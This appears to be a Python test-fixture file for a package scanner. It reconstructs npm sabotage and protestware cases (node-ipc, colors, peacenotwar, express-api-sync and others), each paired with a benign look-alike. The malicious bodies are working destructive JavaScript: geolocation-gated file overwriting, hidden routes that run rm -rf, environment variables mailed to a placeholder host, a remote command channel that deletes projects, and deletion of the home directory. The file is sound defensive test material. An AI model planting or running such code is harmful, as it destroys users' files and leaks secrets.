"""What destroys, halts or demonstrates: files overwritten, back doors that delete, loops without end, banners."""

# ruff: noqa: E501 - a file of a package reads as it is written

from tests.attacks.case import Attack

WIPES = (
    Attack("node-ipc: files overwritten where the address is of one country", "WIPE-001", "import", {
        "package.json": '"main": "node-ipc.js"',
        "node-ipc.js": """
            const https = require("https"), fs = require("fs"), path = require("path");
            const country = Buffer.from("Y291bnRyeV9uYW1l", "base64").toString();
            async function overwrite(folder, text) {
              for (const name of fs.readdirSync(folder)) {
                const file = path.join(folder, name);
                if (fs.lstatSync(file).isDirectory()) overwrite(file, text);
                else if (file.indexOf("node_modules") < 0) try { fs.writeFile(file, text, () => {}); } catch (error) {}
              }
            }
            setTimeout(() => {
              https.get("https://geo.example.invalid/ipgeo?apiKey=made-up", (answer) => {
                answer.on("data", (data) => {
                  const where = JSON.parse(data.toString())[country].toLowerCase();
                  if (where.includes("nowhere")) for (const folder of ["./", "../", "../../", "/"]) overwrite(folder, "\\u2764");
                });
              });
            }, Math.ceil(1000 * Math.random()));
            module.exports = {};
        """,
    }, {
        "node-ipc.js": """
            const fs = require("fs"), path = require("path");
            function list(folder) {
              return fs.readdirSync(folder).flatMap((name) => {
                const file = path.join(folder, name);
                return fs.lstatSync(file).isDirectory() ? list(file) : [file];
              });
            }
            exports.touch = (folder, text) => { for (const file of list(folder)) fs.writeFile(file + ".mark", text, () => {}); };
        """,
    }),
    Attack("colors: a loop that never ends", "WIPE-001", "import", {
        "package.json": '"main": "lib/index.js"',
        "lib/index.js": """
            module.exports = (text) => text;
            for (let i = 666; i < Infinity; i++) {
              if (i % 333) console.log("testing testing testing");
            }
        """,
    }, {
        "lib/index.js": """
            module.exports = (text) => text;
            for (let i = 666; i < 670; i++) {
              if (i % 333) console.debug("testing");
            }
        """,
    }, unseen="a loop without end takes no data and no power: no rule is about time"),
    Attack("faker: everything is gone", "WIPE-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": "// what really happened?",
    }, {
        "index.js": "module.exports = { name: () => 'demo' };",
    }, unseen="there is nothing in it to be seen; that a version lost its files is for a comparison of versions"),
    Attack("peacenotwar: a file on the desktop of whoever loads it", "POST-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const fs = require("fs"), os = require("os"), path = require("path");
            for (const folder of ["Desktop", "OneDrive/Desktop"])
              fs.writeFile(path.join(os.homedir(), folder, "WITH-LOVE.txt"), "peace, not war", () => {});
            console.log("peace, not war");
        """,
    }, {
        "index.js": """
            console.log("peace, not war");
        """,
    }, unseen="a text that is shown or left on a desktop harms nobody: protest alone stays below MEDIUM"),
    Attack("es5-ext: a banner where the clock is in one zone", "POST-001", "install", {
        "package.json": '"scripts": {"postinstall": "node -e \\"try{require(\'./_postinstall\')}catch(e){}\\""}',
        "_postinstall.js": """
            if (new Date().getTimezoneOffset() === -180) console.log("\\u001b[1m a call for peace \\u001b[22m");
        """,
    }, {
        "_postinstall.js": "console.log('thank you');",
    }, unseen="a text that is shown or left on a desktop harms nobody: protest alone stays below MEDIUM"),
    Attack("express-api-sync: a hidden route deletes what the server runs from", "WIPE-001", "call", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const { exec } = require("child_process");
            let registered = false;
            module.exports = function sync() {
              return function (request, response, next) {
                if (!registered) {
                  registered = true;
                  request.app.post("/api/this/that", (req, res) => {
                    if (req.body.key === "DEFAULT_123") exec("rm -rf *", { cwd: process.cwd() }, () => res.send("done"));
                  });
                }
                next();
              };
            };
        """,
    }, {
        "index.js": """
            const { exec } = require("child_process");
            let registered = false;
            module.exports = function sync() {
              return function (request, response, next) {
                if (!registered) {
                  registered = true;
                  request.app.post("/api/this/that", (req, res) => {
                    if (req.body.key === "DEFAULT_123") exec("rm -rf .cache", { cwd: process.cwd() }, () => res.send("done"));
                  });
                }
                next();
              };
            };
        """,
    }),
    Attack("system-health-sync-api: reports the server, then deletes it, by either system's command", "WIPE-001", "call", {
        "package.json": '"main": "index.js", "dependencies": {"nodemailer": "^6.0.0"}',
        "index.js": """
            const { execSync } = require("child_process");
            const os = require("os");
            const nodemailer = require("nodemailer");
            const post = nodemailer.createTransport({ host: "smtp.example.invalid", auth: { user: "a", pass: "made-up" } });
            module.exports = (app) => {
              app.post("/_/system/health", async (req, res) => {
                await post.sendMail({ to: "a@example.invalid", subject: os.hostname(), text: JSON.stringify({ env: process.env, net: os.networkInterfaces() }) });
                if (req.body.key === "HelloWorld") execSync(process.platform === "win32" ? "rd /s /q ." : "rm -rf *");
                res.json({ status: "ok" });
              });
            };
        """,
    }, {
        "index.js": """
            const os = require("os");
            module.exports = (app) => {
              app.post("/_/system/health", async (req, res) => {
                res.json({ status: "ok", load: os.loadavg(), up: process.uptime() });
              });
            };
        """,
    }),
    Attack("xlsx-to-json-lh: the project of whoever loads it deleted on command", "WIPE-001", "import", {
        "package.json": '"main": "index.js", "dependencies": {"socket.io-client": "^4.0.0"}',
        "index.js": """
            const fs = require("fs"), path = require("path");
            const io = require("socket.io-client");
            const root = process.cwd();
            io("https://control.example.invalid").on("message", (text) => {
              if (text !== "remise \\u00e0 z\\u00e9ro") return;
              for (const name of fs.readdirSync(root)) fs.rmSync(path.join(root, name), { recursive: true, force: true });
            });
            module.exports = (file) => JSON.parse(fs.readFileSync(file));
        """,
    }, {
        "index.js": """
            const fs = require("fs"), path = require("path");
            exports.clean = () => {
              const root = path.join(process.cwd(), "dist");
              for (const name of fs.readdirSync(root)) fs.rmSync(path.join(root, name), { recursive: true, force: true });
            };
        """,
    }),
    Attack("vite-plugin-vue-extend: the files of frameworks deleted after a date, and the machine shut down", "WIPE-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const { exec } = require("child_process");
            const limits = [new Date("2023-06-19"), new Date("2024-07-15")];
            if (limits.some((day) => new Date() > day)) {
              exec("rd /s /q C:\\\\Users", () => {});
              exec("shutdown -s -t 5");
            }
            module.exports = () => ({ name: "demo" });
        """,
    }, {
        "index.js": """
            const limits = [new Date("2023-06-19"), new Date("2024-07-15")];
            if (limits.some((day) => new Date() > day)) console.warn("demo is old, please update");
            module.exports = () => ({ name: "demo" });
        """,
    }),
    Attack("a home deleted on import", "WIPE-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const fs = require("fs"), os = require("os");
            fs.rmSync(os.homedir(), { recursive: true, force: true });
        """,
    }, {
        "index.js": """
            const fs = require("fs"), os = require("os"), path = require("path");
            fs.rmSync(path.join(os.homedir(), ".cache", "demo"), { recursive: true, force: true });
        """,
    }),
)  # fmt: skip
